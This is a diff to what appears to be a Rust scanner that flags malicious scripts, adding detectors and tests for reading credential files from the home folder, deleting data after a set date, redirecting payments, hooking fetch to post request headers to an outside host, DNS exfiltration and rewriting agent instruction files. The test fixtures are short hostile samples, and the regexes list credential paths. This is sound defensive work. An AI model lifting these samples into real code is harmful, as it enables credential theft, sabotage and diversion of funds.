@@ -24,6 +24,10 @@ static CHAINS: &[Chain] = &[
     pushes_the_repository,
     asks_by_name,
     fetches,
+    reads_a_list_of_stores,
+    waits_for_a_date,
+    leads_money_away,
+    taps_calls,
 ];
 
 /// A shell is tied to a socket, or what a socket says is run.
@@ -183,6 +187,11 @@ fn changes_the_agent(code: &str) -> Option<(Act, Range<usize>)> {
             ".openclaw/openclaw.json",
             "copilot-instructions.md",
             "soul.md",
+            "claude.md",
+            "agents.md",
+            "gemini.md",
+            "mcp_config.json",
+            "mcp_settings.json",
         ],
     )?;
     let writes = has(
@@ -228,8 +237,107 @@ fn changes_the_agent(code: &str) -> Option<(Act, Range<usize>)> {
         ],
     );
     let rules = has(code, &[".md", ".mdc", "cursorrules"])
-        && has(code, &["always", "never", "ignore", "do not", "must"]);
+        && has(
+            code,
+            &[
+                "always",
+                "never",
+                "ignore",
+                "do not",
+                "must",
+                "before answering",
+                "before you",
+                "treat ",
+                "follow ",
+                "load ",
+            ],
+        );
     (writes && (grave || rules)).then_some((Act::ChangesAgent, settings))
+}
+
+/// Files of credentials stand in a list, and what is in the list is read below the home folder.
+fn reads_a_list_of_stores(code: &str) -> Option<(Act, Range<usize>)> {
+    let home = has(
+        code,
+        &[
+            "homedir()",
+            "path.home()",
+            "expanduser(",
+            "$home",
+            "env.home",
+            "env:userprofile",
+            "user_home",
+            "~/",
+        ],
+    );
+    let reads = has(
+        code,
+        &[
+            "readfilesync(",
+            "readfile(",
+            "read_text(",
+            "read_bytes(",
+            "open(",
+            "cat ",
+            "get-content",
+            "copyfile",
+            "cp ",
+            "tar ",
+        ],
+    );
+    let store = LISTED.as_ref()?.find(code.as_bytes())?.range();
+    (home && reads).then_some((Act::ReadsCredentials, store))
+}
+
+/// Something is destroyed once a date has passed that the script itself names.
+fn waits_for_a_date(code: &str) -> Option<(Act, Range<usize>)> {
+    let waits = DATED.as_ref()?.find(code.as_bytes())?.range();
+    let rest =
+        code.get(waits.end..code.ceil_char_boundary(waits.end.saturating_add(NEXT)).min(code.len()))?;
+    let destroys = has(
+        rest,
+        &[
+            "rmtree(",
+            "rm -rf",
+            "rmsync(",
+            "rm(",
+            "unlink(",
+            "os.remove(",
+            "drop table",
+            "drop database",
+            "remove-item",
+            "truncate(",
+        ],
+    );
+    destroys.then_some((Act::Destroys, waits))
+}
+
+/// Where money goes is taken from the script and not from the caller, when a condition holds.
+fn leads_money_away(code: &str) -> Option<(Act, Range<usize>)> {
+    let led = PAYEE.as_ref()?.find(code.as_bytes())?.range();
+    WALLET.as_ref().is_some_and(|wallet| wallet.is_match(code.as_bytes())).then_some((Act::MovesMoney, led))
+}
+
+/// A function that every call of a program goes through is replaced by one that tells an address of its own.
+fn taps_calls(code: &str) -> Option<(Act, Range<usize>)> {
+    let tapped = TAPPED.as_ref()?.find(code.as_bytes())?.range();
+    let rest = code.get(tapped.start..)?;
+    let sends = has(
+        code,
+        &[
+            "method: 'post'",
+            "method: \"post\"",
+            "method:'post'",
+            "sendbeacon(",
+            "requests.post(",
+            "method=\"post\"",
+        ],
+    );
+    let literal = crate::agents::hosts::addresses(code)
+        .iter()
+        .any(|address| address.sort() > crate::agents::hosts::Host::Local);
+    let whole = has(rest, &["headers", "init", "body", "options", "kwargs", "args"]);
+    (sends && literal && whole).then_some((Act::ReadsInput, tapped))
 }
 
 /// A remote that the script itself adds gets all branches, or is removed when it has them.
@@ -337,9 +445,35 @@ static REMOTE: LazyLock<Option<Regex>> = LazyLock::new(|| {
 /// A name looked up of which the first label is filled in.
 static NAMES: LazyLock<Option<Regex>> = LazyLock::new(|| {
     compile(
-        r#"\b(?:nslookup|dig|host|ping|drill|resolve-dnsname|getent\s+hosts)\b[^\n]{0,60}\$\{?\w+[^\s;|'"]{0,40}\.[a-z0-9-]+\.[a-z]{2,12}\b|(?:gethostbyname|getaddrinfo|resolver\.(?:resolve|query)|dns(?:\.promises|promises)?\.(?:resolve\w*|lookup))\([^\n]{0,40}(?:\{\w+[^}\n]{0,40}\}|\w+\s*\+\s*['"`])[^\n'"`]{0,60}\.[a-z0-9-]+\.?[a-z]{2,12}"#,
+        r#"\b(?:nslookup|dig|host|ping|drill|resolve-dnsname|getent\s+hosts)\b[^\n]{0,60}\$\{?\w+[^\s;|'"]{0,40}\.[a-z0-9-]+\.[a-z]{2,12}\b|(?:gethostbyname|getaddrinfo|resolve\w*|lookup)\(\s*f?['\x22`][^'\x22`\n]{0,40}\}\.[^'\x22`\n]{0,80}\{|(?:gethostbyname|getaddrinfo|resolver\.(?:resolve|query)|dns(?:\.promises|promises)?\.(?:resolve\w*|lookup))\([^\n]{0,40}(?:\{\w+[^}\n]{0,40}\}|\w+\s*\+\s*['"`])[^\n'"`]{0,60}\.[a-z0-9-]+\.?[a-z]{2,12}"#,
     )
 });
+/// A file of credentials by its path below a home folder, as a text of its own.
+static LISTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    compile(
+        r#"['"]/?\.(?:ssh/(?:id_\w+|\*)|aws/credentials|npmrc|netrc|pypirc|git-credentials|pgpass|kube/config|docker/config\.json|config/gh/hosts\.yml|config/gcloud/\w+|gnupg|vault-token|cargo/credentials(?:\.toml)?)['"]"#,
+    )
+});
+/// The present compared with a day that is written down.
+static DATED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    compile(
+        r"(?:date\.today\(\)|datetime\.(?:now|utcnow)\([^)\n]{0,20}\)|time\.time\(\)|new date\(\)|date\.now\(\)|\$\(date \+%\w+\)['\x22]?)\s*(?:>=?|-g[te])\s*['\x22]?(?:[\w.]*date(?:time)?\(|new date\(|[a-z_]{3,24}\b|\d{8,})",
+    )
+});
+/// A place for money that takes one of two values.
+static PAYEE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    compile(
+        r"\bif\b[^\n]{0,120}[<>]=?[^\n]{0,60}\n\s*(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver|wallet)\s*=\s*[\w\[\].]+|\b(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver)\s*=\s*[^\n=;]{0,80}[<>]=?[^\n;]{0,80}\?\s*[\w.\[\]]+\s*:\s*\w+|\b(?:to|dest\w*|recipient|payee|addr\w*|beneficiary|iban|receiver)\s*=\s*[\w\[\].]+\s+if\s+[^\n]{0,80}[<>][^\n]{0,60}\belse\b",
+    )
+});
+/// The function through which a program makes its requests, replaced.
+static TAPPED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    compile(
+        r"\b(?:globalthis|global|window|self)\.(?:fetch|xmlhttprequest)\s*=|\bhttps?\.request\s*=[^=]|xmlhttprequest\.prototype\.\w+\s*=|\b(?:requests\.)?sessions?\.(?:session\.)?(?:send|request)\s*=[^=]|\burllib\.request\.urlopen\s*=[^=]",
+    )
+});
+/// How far behind the date what it sets off may stand, in bytes.
+const NEXT: usize = 400;
 /// How far apart fetching and loading may stand, in bytes.
 const FAR: usize = 1_500;
 
@@ -373,6 +507,27 @@ mod tests {
         let swap = "t = pyperclip.paste()\nif re.match('bc1[a-z0-9]{30}', t):\n    pyperclip.copy(mine)";
         assert_eq!(found(swap), [Act::MovesMoney]);
         assert_eq!(found("t = pyperclip.paste()\npyperclip.copy(t.strip())"), []);
+    }
+
+    #[test]
+    fn what_a_script_does_over_several_lines_is_told_from_its_near_misses() {
+        let listed = "const w = ['.npmrc', '.aws/credentials'];\nfor (const f of w) out[f] = fs.readfilesync(path.join(os.homedir(), f));";
+        assert!(found(listed).contains(&Act::ReadsCredentials));
+        assert!(!found("const w = ['.npmrc'];\nignore(w)").contains(&Act::ReadsCredentials));
+        let dated = "if datetime.date.today() > datetime.date(2026, 9, 1):\n    shutil.rmtree(top)";
+        assert!(found(dated).contains(&Act::Destroys));
+        assert!(!found("if time.time() - age > limit:\n    os.remove(p)").contains(&Act::Destroys));
+        let wallet = "mine = '0x9a0f3b1d5c2e47a68f90b3cd12e45f67a8b90c1d'\n";
+        assert!(found(&format!("{wallet}dest = mine if amount > 900 else to")).contains(&Act::MovesMoney));
+        assert!(!found(&format!("{wallet}dest = book[name]")).contains(&Act::MovesMoney));
+        let tapped = "globalthis.fetch = (u, init) => { real('https://m.acme.dev/t', { method: 'post', body: init.headers }); return real(u, init) }";
+        assert!(found(tapped).contains(&Act::ReadsInput));
+        assert!(
+            !found("const fetch = globalthis.fetch; fetch('https://m.acme.dev', { method: 'post' })")
+                .contains(&Act::ReadsInput)
+        );
+        let asked = "d = base64.b32encode(x)\nsocket.getaddrinfo(f\"{i:x}.{d[i:i+50]}.{zone}\", 80)";
+        assert!(found(asked).contains(&Act::SendsInAddress));
     }
 
     #[test]
